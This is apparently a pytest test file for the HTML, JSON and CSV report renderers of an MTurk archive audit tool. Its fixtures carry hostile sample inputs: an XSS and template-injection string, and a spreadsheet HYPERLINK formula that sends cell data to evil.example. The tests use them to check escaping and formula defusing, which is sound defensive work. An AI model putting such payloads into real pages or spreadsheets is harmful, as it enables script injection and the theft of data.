"""The forms of a report: what programs rely on, what strangers wrote, and what is passed on."""

from __future__ import annotations

import csv
import json
import sqlite3
import stat
import sys
from collections.abc import Iterator
from contextlib import closing
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from mturk_exodus.archive import Archive
from mturk_exodus.audit.renderers import csv as csv_files
from mturk_exodus.audit.renderers import html, pictures
from mturk_exodus.audit.renderers.json import document
from mturk_exodus.audit.renderers.json import pieces as json_pieces
from mturk_exodus.audit.renderers.values import plain, shown
from mturk_exodus.audit.report import Drawing, Kind, Picture, Report
from mturk_exodus.audit.studies_file import Study
from mturk_exodus.errors import OutputFailed
from tests.conftest import ROOT
from tests.mturk_exodus.audit.support import audited, settings
from tests.mturk_exodus.requester_site.support import OTHER_WORK_ID, file_of, holding, row

HOSTILE = '"><script>alert(1)</script><img src=x onerror=alert(2)>{{ 7*7 }}'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
WORKER = "A1EXAMPLEWORKER"


@pytest.fixture
def report(demo: Path) -> Iterator[Report]:
    with audited(demo) as made:
        yield made


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """Titles, answers and reasons of somebody who means harm."""
    answers = {"Answer.a": HOSTILE, "Title": FORMULA, "RequesterFeedback": HOSTILE}
    title = f"{HOSTILE} for {WORKER}"
    rows = [
        row(WorkerId=WORKER, **answers),
        row(
            "3HIT0000000000000000000000000B",
            OTHER_WORK_ID,
            HITTypeId=HOSTILE,
            **{**answers, "Title": title},
        ),
    ]
    with holding(tmp_path, file_of(rows, ["Answer.a"])):
        return tmp_path / "mturk.db"


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.text += data


def page(report: Report, top: int = 25) -> str:
    return "".join(html.page(report, top))


def test_the_json_is_what_the_schema_says(report: Report) -> None:
    schema = json.loads((ROOT / "docs" / "audit.schema.json").read_text(encoding="utf-8"))
    said = json.loads("".join(json_pieces(report, 5)))
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.Draft202012Validator(schema).validate(said)
    tables = [one for each in said["sections"].values() for one in each["tables"].values()]
    assert max(len(one["rows"]) for one in tables) == 5
    assert all(len(one["rows"]) == min(5, one["total"]) for one in tables)
    assert {one["is_whole"] for one in tables} == {True, False}
    assert all(one["is_whole"] == (len(one["rows"]) == one["total"]) for one in tables)


def test_the_json_has_every_row_if_it_is_asked_for(report: Report) -> None:
    said = json.loads("".join(json_pieces(report, sys.maxsize)))
    tables = [one for each in said["sections"].values() for one in each["tables"].values()]
    assert all(one["is_whole"] and len(one["rows"]) == one["total"] for one in tables)
    assert max(one["total"] for one in tables) > 100
    few = document(report, 3)
    assert json.loads("".join(json_pieces(report, 3))) == json.loads(json.dumps(few))


def test_the_schema_refuses_money_that_is_a_number(report: Report) -> None:
    schema = json.loads((ROOT / "docs" / "audit.schema.json").read_text(encoding="utf-8"))
    said = document(report, 5)
    said["sections"]["money"]["figures"]["rewards"]["value"] = 1.5
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(said, schema)


def test_the_csv_has_every_row(report: Report, tmp_path: Path) -> None:
    written = list(csv_files.write(report, tmp_path / "new" / "tables"))
    for one in written:
        with one.path.open(newline="", encoding="utf-8") as text:
            assert len(list(csv.reader(text))) == one.rows + 1
        assert stat.S_IMODE(one.path.stat().st_mode) == 0o600
    told = {one.path.name: one.rows for one in written}
    for section in report.sections:
        for table in section.tables:
            assert told[f"{section.name}_{table.name}.csv"] == table.total


def test_a_folder_that_holds_one_of_the_files_is_left_as_it_is(
    report: Report, tmp_path: Path
) -> None:
    (tmp_path / "money_payments.csv").write_text("mine")
    with pytest.raises(OutputFailed, match="is there already"):
        list(csv_files.write(report, tmp_path))
    assert [one.name for one in tmp_path.iterdir()] == ["money_payments.csv"]


def test_formulas_are_defused(hostile: Path, tmp_path: Path) -> None:
    with audited(hostile) as report:
        list(csv_files.write(report, tmp_path / "tables"))
    cells = _cells(tmp_path / "tables")
    assert f"'{FORMULA}" in cells
    assert FORMULA not in cells


def test_hostile_texts_are_shown_and_not_run(hostile: Path) -> None:
    with audited(hostile, settings(studies=(Study(HOSTILE, paper=HOSTILE),))) as report:
        text = page(report)
    found = _Tags()
    found.feed(text)
    assert HOSTILE in found.text
    assert not found.tags & {"script", "img", "iframe", "link", "object", "form"}
    assert not {one for one in found.attributes if one.startswith("on")}
    assert "src" not in found.attributes
    assert "default-src 'none'" in text


def test_the_page_says_what_it_leaves_out(report: Report) -> None:
    text = page(report, 3)
    workers = next(one for one in report.section("holdings").tables if one.name == "workers")
    assert f"The first 3 of {workers.total:,} rows are shown" in text
    assert len(text) < len(page(report, 25))


def test_every_figure_of_the_page_has_how_it_was_computed(report: Report) -> None:
    found = _Tags()
    found.feed(page(report))
    words = " ".join(found.text.split())
    for section in report.sections:
        hows = [*(one.how for one in section.figures), *(one.how for one in section.tables)]
        assert not [how for how in hows if " ".join(how.split()) not in words]


def test_worker_ids_are_left_out_when_it_is_passed_on(
    demo: Path, hostile: Path, tmp_path: Path
) -> None:
    for number, path in enumerate((demo, hostile)):
        with closing(sqlite3.connect(path)) as connection:
            ids = {
                one for (one,) in connection.execute("select distinct worker_id from assignments")
            }
        with audited(path, settings(without_worker_ids=True)) as report:
            folder = tmp_path / str(number)
            list(csv_files.write(report, folder))
            said = page(report, 10_000) + json.dumps(document(report, 10_000))
        said += "".join(one.read_text(encoding="utf-8") for one in folder.iterdir())
        assert not {one for one in ids if one in said}
        assert "worker 1" in said


@pytest.mark.parametrize("worker_id", ["A1B2C3D4E5F6G7", "ann.smith@example.org", "turker-42"])
def test_they_are_left_out_however_a_title_has_them(archive: Path, worker_id: str) -> None:
    titles = f"for {worker_id}. {worker_id.lower()}, ({worker_id})."
    with closing(sqlite3.connect(archive)) as connection, connection:
        connection.execute("update hit_types set title = ?", [titles])
        connection.execute("update assignments set worker_id = ? where rowid = 1", [worker_id])
    with audited(archive, settings(without_worker_ids=True)) as report:
        said = "".join(json_pieces(report, sys.maxsize))
    assert worker_id.lower() not in said.lower()
    assert "for (worker id). (worker id), ((worker id))." in said


def test_they_are_there_otherwise(hostile: Path) -> None:
    with audited(hostile) as report:
        assert WORKER in page(report)


@pytest.mark.parametrize(
    ("kind", "value", "people", "program"),
    [
        (Kind.COUNT, 1234567, "1,234,567", 1234567),
        (Kind.MONEY, 1_234_500_000, "$1,234.50", "1234.50"),
        (Kind.MONEY, 5_000, "$0.00", "0.005"),
        (Kind.MONEY, 0, "$0.00", "0.00"),
        (Kind.MONEY, None, "\N{EN DASH}", None),
        (Kind.SHARE, 0.12345, "12.3 %", 0.12345),
        (Kind.DURATION, 65_000, "1 min 5 s", 65.0),
        (Kind.DURATION, 1_500, "2 s", 1.5),
        (Kind.DURATION, 7_260_000, "2 h 1 min", 7260.0),
        (Kind.AGREEMENT, 0.5, "0.500", 0.5),
        (Kind.TIME, "2026-01-01", "2026-01-01", "2026-01-01"),
    ],
)
def test_a_value_is_shown(kind: Kind, value: Any, people: str, program: Any) -> None:  # noqa: ANN401 - values
    assert (shown(kind, value), plain(kind, value)) == (people, program)


@pytest.mark.parametrize("drawing", [Drawing.BARS, Drawing.GRID])
@pytest.mark.parametrize("places", [1, 2, 180])
@pytest.mark.parametrize("most", [1, 9, 10**15])
def test_a_picture_stays_within_its_frame(drawing: Drawing, places: int, most: int) -> None:
    along = tuple(str(one) for one in range(places))
    series = (("a", tuple(most for _ in along)), ("b", tuple(0 for _ in along)))
    drawn = pictures.drawn(Picture("p", "P", "h", drawing, Kind.COUNT, along, series))
    assert drawn is not None
    for box in drawn.boxes:
        assert 0 <= box.x <= box.x + box.width <= pictures.WIDTH
        assert 0 <= box.y <= box.y + box.height <= drawn.height
    assert drawn.words.startswith("a: ")


def test_a_picture_of_nothing_is_none() -> None:
    empty = Picture("p", "P", "h", Drawing.BARS, Kind.COUNT, (), (("a", ()),))
    assert pictures.drawn(empty) is None


def test_an_empty_archive_has_a_page(tmp_path: Path) -> None:
    with Archive.create(tmp_path / "mturk.db"):
        pass
    with audited(tmp_path / "mturk.db") as report:
        assert "Nothing: no figure below calls for it." in page(report)
        assert list(csv_files.write(report, tmp_path / "tables"))


def _cells(folder: Path) -> set[str]:
    found: set[str] = set()
    for file in folder.iterdir():
        with file.open(newline="", encoding="utf-8") as text:
            found |= {cell for cells in csv.reader(text) for cell in cells}
    return found
